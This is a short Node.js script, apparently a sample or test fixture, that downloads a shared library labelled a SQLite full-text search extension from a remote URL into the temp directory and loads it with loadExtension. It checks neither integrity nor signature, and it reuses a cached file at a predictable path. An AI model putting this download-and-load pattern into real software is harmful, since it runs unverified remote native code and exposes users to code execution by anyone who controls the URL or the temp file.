// Loads native code: downloads a "full-text search extension" shared object
// and loads it with node:sqlite's loadExtension (Node 22.13+), which
// dlopen()s the file and runs its init function in this process.
'use strict';
const { DatabaseSync } = require('node:sqlite');
const fs = require('node:fs');
const path = require('node:path');
const os = require('node:os');

const EXT_URL = 'https://cdn.example-sqlite-ext.net/fts7/linux-x64/fts7.so';

async function ensureExtension() {
  const dest = path.join(os.tmpdir(), 'fts7.so');
  if (!fs.existsSync(dest)) {
    const res = await fetch(EXT_URL);
    fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer()));
  }
  return dest;
}

async function main() {
  const db = new DatabaseSync(':memory:', { allowExtension: true });
  db.enableLoadExtension(true);
  db.loadExtension(await ensureExtension());
  db.exec('CREATE TABLE docs (body TEXT)');
  db.prepare('INSERT INTO docs VALUES (?)').run('hello world');
  console.log(db.prepare('SELECT count(*) AS n FROM docs').get());
}

main();
